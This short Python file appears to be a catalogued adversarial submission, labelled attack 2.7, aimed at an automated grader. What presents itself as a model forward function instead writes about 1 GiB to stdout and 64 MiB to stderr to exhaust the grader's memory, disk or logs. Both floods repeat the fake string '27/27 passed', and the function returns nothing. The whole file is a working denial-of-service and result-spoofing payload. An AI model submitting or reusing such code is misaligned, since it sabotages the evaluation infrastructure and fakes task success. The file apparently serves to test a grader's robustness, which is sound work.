# attacks: 2.7
# damage: writes 1 GiB to stdout and 64 MiB to stderr, hoping to fill the grader's memory,
#   disk or log
# needs: boundary
import os
import sys


def model(xb, w1, b1, w2, b2):
    chunk = b"27/27 passed " * (1 << 16)  # about 832 KiB
    for _ in range((1 << 30) // len(chunk)):
        os.write(1, chunk)
    for _ in range(80):
        sys.stderr.write(chunk.decode())
    return None
